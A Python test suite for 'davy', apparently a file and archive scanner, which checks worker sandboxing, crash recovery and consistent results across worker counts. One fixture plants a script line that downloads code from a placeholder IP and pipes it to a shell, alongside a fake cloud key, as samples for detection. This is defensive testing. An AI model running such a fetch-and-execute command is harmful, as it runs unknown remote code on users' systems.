# SPDX-License-Identifier: Apache-2.0
"""Workers: what stands around them, and what a scan tells when they are ended in the middle of their work.

No file that crashes a parser is known, so the workers are ended from outside, by the signals that a crash gives.
"""
import contextlib
import json
import os
import pathlib
import random
import shutil
import signal
import subprocess
import tarfile
import tempfile
import time
import unittest
import zipfile

from patience import wait_for

DAVY = os.environ['DAVY']


def workers_of(pid):
    try:
        return [int(p) for p in pathlib.Path(f'/proc/{pid}/task/{pid}/children').read_text().split()]
    except FileNotFoundError:
        return []


def is_confined(pid):
    """Whether it is a worker at work, not yet one that tries at the start whether the walls can be built."""
    try:
        with open(f'/proc/{pid}/status') as f:
            if 'Seccomp:\t2' not in f.read():
                return False
        return any(os.readlink(f'/proc/{pid}/fd/{fd}').startswith('pipe:') and int(fd) > 2 for fd in os.listdir(f'/proc/{pid}/fd'))
    except OSError:
        return False


def start(*arguments):
    """A scan whose words go to files: nobody reads them while it runs."""
    out, err = tempfile.TemporaryFile(), tempfile.TemporaryFile()
    process = subprocess.Popen([DAVY, 'scan', '--no-cache', '--format', 'json', '--fail-on', 'none', *map(str, arguments)],
                               stdout=out, stderr=err, env={**os.environ, 'LC_ALL': 'C.UTF-8'})
    process.words = out, err
    return process


def finish(process):
    process.wait(600)
    texts = []
    for file in process.words:
        file.seek(0)
        texts.append(file.read())
        file.close()
    if not texts[0]:
        raise AssertionError(texts[1].decode())
    return json.loads(texts[0])


def wait_for_workers(process, count):
    def seen():
        found = [p for p in workers_of(process.pid) if is_confined(p)]
        return len(found) >= count and found or process.poll() is not None and 'none'
    found = wait_for(seen, pause=0.001)
    return [] if found == 'none' else found  # it was done before


MARKER = 'DAVY TEST IMITATION of a listed file\n'


class Workers(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.temp = pathlib.Path(tempfile.mkdtemp(prefix='davy-workers-'))
        cls.addClassCleanup(shutil.rmtree, cls.temp, ignore_errors=True)
        rng, letters = random.Random(3), b'abcdefghij klmno' * 15 + b'abcdefghij klmn\n'
        cls.folder = cls.temp / 'folder'
        for i in range(40):
            (cls.folder / f'd{i:02}').mkdir(parents=True)
            for k in range(30):
                (cls.folder / f'd{i:02}/f{k:02}.txt').write_bytes(rng.randbytes(20000).translate(letters))
            (cls.folder / f'd{i:02}/marker').write_text(MARKER + str(i))
        (cls.folder / 'bad').write_text(MARKER)
        cls.tar = cls.temp / 'layer.tar.gz'
        with tarfile.open(cls.tar, 'w:gz', compresslevel=1) as tar:
            tar.add(cls.folder, arcname='.')

        # More than anybody holds at once: as text with markers at its begin and its end, and as an archive.
        cls.large = cls.temp / 'large'
        cls.large.mkdir()
        with open(cls.large / 'a.txt', 'wb') as f:
            f.write(MARKER.encode() * 3)
            for _ in range(65):
                f.write(rng.randbytes(1 << 20).translate(letters))
            f.write(b'\naws_key = "AKIAY3FJDRX5WQ7ZPGLK"\n')
        with zipfile.ZipFile(cls.large / 'c.zip', 'w') as z:
            z.write(cls.large / 'a.txt', 'inner/a.txt')
            for i in range(12_000):  # more to tell than anybody keeps while it is another worker's turn
                z.writestr('inner/' + 'a-long-name/' * 80 + f'{i:05}.txt', f'{i}\n')
            z.writestr('inner/b.sh', '#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n')
        for i in range(9):
            (cls.large / f'd{i}.txt').write_text(MARKER + str(i))
        cls.large_tar = cls.temp / 'large.tar.gz'
        with tarfile.open(cls.large_tar, 'w:gz', compresslevel=1) as tar:
            tar.add(cls.large, arcname='.')

    def rules(self, report):
        return sorted((f['rule'], f['subject']['name']) for t in report['targets'] for f in t['findings'])

    def test_any_number_of_workers_tells_the_same(self):
        seen = {}
        for how in (['--unconfined'], ['-j', 1], ['-j', 2], ['-j', 5]):
            for target in (self.folder, self.tar):
                t = finish(start(*how, target))['targets'][0]
                seen.setdefault(target, []).append((self.rules({'targets': [t]}), t['counts'], t['verdict'],
                                                    [f['id'] for f in t['findings']]))
        for target, rows in seen.items():
            self.assertTrue(rows[0][0], target)
            for row in rows[1:]:
                self.assertEqual(row, rows[0], target)

    def test_what_nobody_can_hold_is_told_the_same(self):
        cut = self.temp / 'cut.tar.gz'
        cut.write_bytes(self.large_tar.read_bytes()[:self.large_tar.stat().st_size * 2 // 5])
        for target in (self.large, self.large_tar, cut):
            seen = []
            for how in (['--unconfined'], ['-j', 1], ['-j', 3]):
                t = finish(start(*how, target))['targets'][0]
                seen.append((self.rules({'targets': [t]}), t['counts'], t['unread'], [f['id'] for f in t['findings']]))
            self.assertIn('a.txt', str(seen[0]), target)
            for row in seen[1:]:
                self.assertEqual(row, seen[0], target)

    def test_the_rest_is_told_when_workers_die_over_what_flows(self):
        whole = self.rules(finish(start(self.large_tar)))
        for round in range(2):
            report, killed = self.kill_some(self.large_tar, signal.SIGKILL if round % 2 else signal.SIGSEGV, 1 + round % 2, '-j', 2)
            t = report['targets'][0]
            lost = {g['what'] for g in t['unread']['list'] if g['why'] == 'parser-died'}
            self.assertLessEqual(len(lost), killed)
            rest = {r for r in self.rules(report) if r[0] != 'File that ended the worker reading it'}
            # Members are told as they come: of an archive that is lost, some may stand.
            gone = {r for r in whole if any(r[1].startswith(name) for name in lost)}
            self.assertEqual(rest - gone, set(whole) - gone)

    def test_walls_stand_around_every_worker(self):
        checked = 0
        while checked < 20:  # a scan may be over before
            checked += self.look_at_walls()

    def look_at_walls(self):
        """How many workers of one scan were looked at."""
        process, checked = start('-j', 2, self.folder, self.folder, self.folder), 0
        try:
            while checked < 20 and process.poll() is None:
                for pid in workers_of(process.pid):
                    try:
                        status = dict(line.split(':\t', 1) for line in
                                      pathlib.Path(f'/proc/{pid}/status').read_text().splitlines() if ':\t' in line)
                        fds = [os.readlink(f'/proc/{pid}/fd/{fd}') for fd in os.listdir(f'/proc/{pid}/fd')]
                    except OSError:
                        continue
                    if status['Seccomp'] != '2':
                        continue  # not yet: nothing has been read
                    checked += 1
                    self.assertEqual(status['NoNewPrivs'], '1')
                    caps = int(status['CapEff'], 16)
                    self.assertEqual(caps & ~(1 << 1 | 1 << 2), 0, 'more than reading is left of root')
                    self.assertFalse([f for f in fds if f.startswith('socket:')], 'a worker that walks holds a socket')
        finally:
            finish(process)
        return checked

    def kill_some(self, target, sig, count, *options):
        """
        A scan whose workers are ended every now and then; the report, and how many were. One that was done before any was is none. Not more than
        two: at the third that dies before it said anything, which a slow machine may bring about, a target is given up.
        """
        rng = random.Random(sig)
        while True:
            process, killed = start(*options, target), 0
            wait_for_workers(process, 1)
            while killed < count and process.poll() is None:
                if pids := [p for p in workers_of(process.pid) if is_confined(p)]:
                    with contextlib.suppress(ProcessLookupError):
                        os.kill(rng.choice(pids), sig)
                        killed += 1
                time.sleep(rng.uniform(0.05, 0.15))
            report = finish(process)
            if killed:
                return report, killed

    def test_a_worker_that_dies_costs_one_file(self):
        whole = self.rules(finish(start(self.folder)))
        for jobs in (1, 3):
            report, killed = self.kill_some(self.folder, signal.SIGSEGV, 2, '-j', jobs)
            t = report['targets'][0]
            died = [f for f in t['findings'] if f['rule'] == 'File that ended the worker reading it']
            gaps = [g for g in t['unread']['list'] if g['why'] == 'parser-died']
            self.assertLessEqual(len(gaps), killed)
            lost = {f['subject']['name'] for f in died}
            self.assertEqual(lost, {g['what'] for g in gaps})
            rest = [r for r in self.rules(report) if r[0] != 'File that ended the worker reading it']
            self.assertEqual(rest, [r for r in whole if r[1] not in lost])
            self.assertEqual(t['counts']['files'], 1241)

    def test_a_layer_is_read_again_after_its_worker_died(self):
        whole = self.rules(finish(start(self.tar)))
        report, killed = self.kill_some(self.tar, signal.SIGKILL, 2, '-j', 2)
        t = report['targets'][0]
        lost = {g['what'] for g in t['unread']['list'] if g['why'] == 'parser-died'}
        rest = [r for r in self.rules(report) if r[0] != 'File that ended the worker reading it']
        self.assertEqual(rest, [r for r in whole if r[1] not in lost])

    def test_a_worker_that_stalls_is_ended(self):
        report, _ = self.kill_some(self.folder, signal.SIGSTOP, 1, '-j', 1, '--stall', 1)
        t = report['targets'][0]
        self.assertEqual(t['counts']['files'], 1241)
        self.assertLessEqual(len(t['unread']['list']), 1)
        for gap in t['unread']['list']:
            self.assertEqual(gap['why'], 'parser-stalled')

    def test_the_scan_ends_when_everything_dies(self):
        process = start('-j', 2, self.folder)
        while not wait_for_workers(process, 1):
            finish(process)
            process = start('-j', 2, self.folder)
        while process.poll() is None:
            for pid in filter(is_confined, workers_of(process.pid)):
                try:
                    os.kill(pid, signal.SIGKILL)
                except ProcessLookupError:
                    pass
        report = finish(process)
        t = report['targets'][0]
        self.assertTrue(t['unread']['list'] or t.get('failure'))
        self.assertNotEqual(t.get('verdict', {}).get('word'), 'clean')

    def test_workers_end_with_their_parent(self):
        process = start('-j', 2, self.folder, self.folder, self.folder)
        while not (pids := wait_for_workers(process, 2)):
            finish(process)
            process = start('-j', 2, self.folder, self.folder, self.folder)
        process.kill()
        process.wait()

        def alive(pid):
            with contextlib.suppress(OSError):
                return 'Z' not in pathlib.Path(f'/proc/{pid}/stat').read_text().rsplit(')', 1)[1].split()[0]
        wait_for(lambda: not any(map(alive, pids)), lambda: list(filter(alive, pids)))
        for file in process.words:
            file.close()


if __name__ == '__main__':
    unittest.main(verbosity=2)
